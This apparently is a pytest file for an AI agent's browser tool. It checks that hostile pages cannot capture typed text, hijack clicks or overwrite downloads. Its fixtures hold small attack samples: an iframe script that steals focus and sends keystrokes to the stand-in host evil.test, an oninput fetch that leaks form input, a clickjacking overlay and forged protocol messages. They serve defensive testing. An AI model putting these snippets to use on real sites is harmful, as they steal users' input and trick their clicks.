"""What pages, and a browser that a page has taken over, try: words reach no other host, no other
element is used than the one that was shown, and nothing else is brought down."""

from __future__ import annotations

from typing import Any

import anyio
import msgspec
import pytest

from deskhand.computer.browser.browsers import Browser
from deskhand.computer.browser.hosts import is_beneath
from deskhand.computer.browser.keys import types_words
from deskhand.computer.browser.tab import is_same
from deskhand.types.identity import Address

from .conftest import Surfer


def browser_of(surfer: Surfer) -> Browser:
    browser = surfer.browsers.peek(surfer.hands.session)
    assert browser is not None and browser.current is not None
    return browser


def heard(surfer: Surfer, host: str = "evil.test") -> list[str]:
    return [
        each.target
        for each in surfer.site.requests
        if each.headers.get("host", "").startswith(host)
    ]


TELLS = """<label>Name <input oninput="fetch('/heard?' + this.value)"></label>"""


async def test_nothing_is_typed_where_there_is_no_address(surfer: Surfer) -> None:
    surfer.refused = "nobody has allowed it"
    await surfer("tab", tab=0)
    assert "without an address" in await surfer.fails("script", text="1")
    await surfer.open("<button onclick=\"window.open('').document.write('<input>')\">Go</button>")
    await surfer("click", ref=await surfer.ref("Go"))
    found = await surfer("find", role="textbox")
    ref = found.splitlines()[-1].split()[0]
    assert ref.startswith("e"), found
    assert "nobody has allowed it" in await surfer.fails("type", ref=ref, text="secret")


async def test_a_frame_of_another_host_is_asked_about(surfer: Surfer) -> None:
    surfer.allowed = ("site.test",)
    surfer.site.page("/form", TELLS)
    await surfer.open(f"<iframe src=http://evil.test:{surfer.site.port}/form></iframe>")
    said = await surfer.fails("type", ref=await surfer.ref("Name"), text="secret")
    assert "evil.test is not allowed" in said
    assert not [each for each in heard(surfer) if "heard" in each]


async def test_a_frame_that_takes_the_focus_hears_nothing(surfer: Surfer) -> None:
    surfer.allowed = ("site.test",)
    thief = """<input id=i><script>
        setInterval(() => { i.focus(); if (i.value) fetch('/heard?' + i.value) }, 5)</script>"""
    surfer.site.page("/thief", thief)
    await surfer.open(
        f"<label>Name <input></label><iframe src=http://evil.test:{surfer.site.port}/thief></iframe>"
    )
    await surfer("type", ref=await surfer.ref("Name"), text="my secret words")
    await anyio.sleep(0.3)
    assert not [each for each in heard(surfer) if "heard" in each]
    assert '= "my secret words"' in await surfer("look")


def test_which_keys_type_words() -> None:
    assert not types_words("Enter Tab ArrowDown Control+a Control+c Escape")
    for keys in ("a", "Shift+a", "Control+v", "Space", "h Enter"):
        assert types_words(keys), keys


async def test_tabs_share_no_refs(surfer: Surfer) -> None:
    await surfer.open(
        "<title>one</title><button onclick=\"document.title='pressed'\">Delete</button>"
    )
    surfer.site.page("/two", "<title>two</title><button>Harmless</button>")
    shown = await surfer("tab", tab=0, url=surfer.site.url("/two"))
    ref = next(line for line in shown.splitlines() if "Harmless" in line).split()[0]
    browser = browser_of(surfer)
    assert browser.current is not None
    await browser.close_tab(browser.current)
    assert "there is no" in await surfer.fails("click", ref=ref)
    assert await surfer.title() == "one"


async def test_what_was_refused_once_is_refused_again(surfer: Surfer) -> None:
    await surfer.open(
        "<title>t</title><button id=b onclick=\"document.title='paid'\">Close</button>"
    )
    ref = await surfer.ref("Close")
    tab = browser_of(surfer).current
    assert tab is not None
    await tab.call("Runtime.evaluate", {"expression": "b.textContent = 'Pay'"})
    for _ in range(2):
        assert "holds something else" in await surfer.fails("click", ref=ref)
    assert await surfer.title() == "t"
    await surfer("look")
    await surfer("click", ref=ref)
    assert await surfer.title() == "paid"


def test_a_longer_name_is_another_one() -> None:
    assert is_same("Row 1", ["Row 1"]) and is_same("Row 1", ["", " Row\n1 "])
    assert not is_same("Row 1", ["Row 12", "Row 1 of 9"])


def test_what_lies_beneath_a_host() -> None:
    assert is_beneath("shop.example.org", "example.org")
    assert is_beneath("www.example.org", "example.org")
    for host, other in (
        ("example.org", "shop.example.org"),
        ("evil.github.io", "me.github.io"),
        ("github.io", "me.github.io"),
        ("shop.co.uk", "other.co.uk"),
        ("org", "example.org"),
        ("notexample.org", "example.org"),
        ("", ""),
    ):
        assert not is_beneath(host, other), (host, other)


async def test_a_download_replaces_nothing(surfer: Surfer) -> None:
    head = {"content-disposition": 'attachment; filename="report.txt"'}
    surfer.site.page("/file", b"theirs", headers=head)
    surfer.hands.write("downloads/report.txt", b"mine")
    await surfer.open("<a href=/file>Get it</a>")
    assert "downloads/report (2).txt" in await surfer("click", ref=await surfer.ref("Get it"))
    assert (surfer.hands.folder / "downloads" / "report.txt").read_bytes() == b"mine"


async def test_a_password_that_is_made_visible_is_not_read(surfer: Surfer) -> None:
    await surfer.open(
        "<label>Password <input id=p type=password></label>"
        "<button onclick=\"p.type = 'text'\">Show</button>"
    )
    await surfer("type", ref=await surfer.ref("Password"), text="hunter2secret")
    said = await surfer("click", ref=await surfer.ref("Show"))
    assert "hunter2" not in said + await surfer("look")


async def test_forged_messages_end_nothing(surfer: Surfer) -> None:
    await surfer.open("<p>hello")
    browser = browser_of(surfer)
    forged: list[tuple[str, Any]] = [
        ("Target.attachedToTarget", {"targetInfo": None}),
        ("Page.fileChooserOpened", {"backendNodeId": "x"}),
        ("Page.frameNavigated", {"frame": []}),
        ("Runtime.consoleAPICalled", {"args": 7}),
        ("Fetch.requestPaused", {"request": None}),
        ("Browser.downloadProgress", []),
    ]
    assert browser._protocol is not None
    for method, params in forged:
        for session in ("", *browser._sessions):
            message = {"method": method, "sessionId": session, "params": params}
            browser._protocol.take(msgspec.json.encode(message))
    browser._protocol.take(b"\xff{]")
    browser._protocol.take(b"[" * 100_000)
    assert "hello" in await surfer("look")


async def test_a_script_that_asks_holds_nothing_up(surfer: Surfer) -> None:
    await surfer.open("<title>t</title>")
    with anyio.fail_after(10):
        assert 'the alert "stop"' in await surfer("script", text="alert('stop')")
        await surfer("dialog")
    assert await surfer.title() == "t"


async def test_a_form_that_was_filled_is_left_at_once(surfer: Surfer) -> None:
    await surfer.open(
        "<label>Name <input></label><script>onbeforeunload = e => e.preventDefault()</script>"
    )
    await surfer("type", ref=await surfer.ref("Name"), text="Ann")
    with anyio.fail_after(8):
        assert "after" in await surfer.open("<p>after", "/after")


async def test_what_lies_under_something_of_the_page_around_is_not_clicked(surfer: Surfer) -> None:
    surfer.site.page("/inner", "<button onclick=\"fetch('/pressed')\">Pay</button>")
    await surfer.open(
        "<iframe src=/inner style='position:absolute;top:0;left:0'></iframe>"
        "<div style='position:absolute;inset:0;background:#fff'>Sure?</div>"
    )
    assert "in front of" in await surfer.fails("click", ref=await surfer.ref("Pay"))
    assert "/pressed" not in [each.target for each in surfer.site.requests]


async def test_several_ask_for_the_first_page_at_once(surfer: Surfer) -> None:
    surfer.site.page("/page", "<p>hello")
    said: list[str] = []

    async def open_page() -> None:
        said.append(await surfer("open", url=surfer.site.url("/page")))

    async with anyio.create_task_group() as tasks:
        for _ in range(3):
            tasks.start_soon(open_page)
    assert len(said) == 3 and all("hello" in each for each in said)


@pytest.mark.parametrize(
    ("action", "effect"),
    [
        ({"action": "look"}, "none"),
        ({"action": "open", "url": "https://example.org"}, "fetch"),
        ({"action": "tab", "tab": 0, "url": "https://example.org"}, "fetch"),
        ({"action": "click", "ref": "e1"}, "local_write"),
        ({"action": "pdf", "path": "AGENTS.md"}, "local_write"),
        ({"action": "script", "text": "1"}, "network"),
    ],
)
async def test_what_each_action_does_to_the_world(
    surfer: Surfer, action: dict[str, Any], effect: str
) -> None:
    raw = msgspec.Raw(msgspec.json.encode(action))
    assert surfer.tool.effect_of(raw, Address("memory")) == effect
